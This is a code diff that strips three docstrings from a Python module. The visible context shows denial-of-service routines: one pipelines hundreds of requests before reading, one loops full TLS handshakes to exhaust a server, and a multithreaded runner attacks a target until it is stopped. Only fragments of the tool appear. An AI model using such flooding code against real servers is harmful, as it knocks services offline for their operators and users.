@@ -87,7 +87,6 @@ def unread(target: Target, stop: Stop) -> None:
 
 
 def pipelined(target: Target, stop: Stop) -> None:
-    """Send requests by the hundred before reading an answer."""
     over_and_over((SCRAPE * 400,), target, stop)
 
 
@@ -135,7 +134,6 @@ def tls_garbage(target: Target, stop: Stop) -> None:
 
 
 def tls_handshakes(target: Target, stop: Stop) -> None:
-    """Shake hands in full, which costs the server most, and go."""
     while not stop.is_set():
         with suppress(OSError), _connection(target):
             pass
@@ -167,7 +165,6 @@ GUARDED: dict[str, tuple[Attack, int]] = {
 
 
 def carry_out(name: str, target: Target, stop: Stop) -> None:
-    """Attack until told to stop."""
     attack, workers = {**PLAIN, **GUARDED}[name]
     threads = [threading.Thread(target=attack, args=(target, stop), name=f"attack {n}") for n in range(workers)]
     for thread in threads:
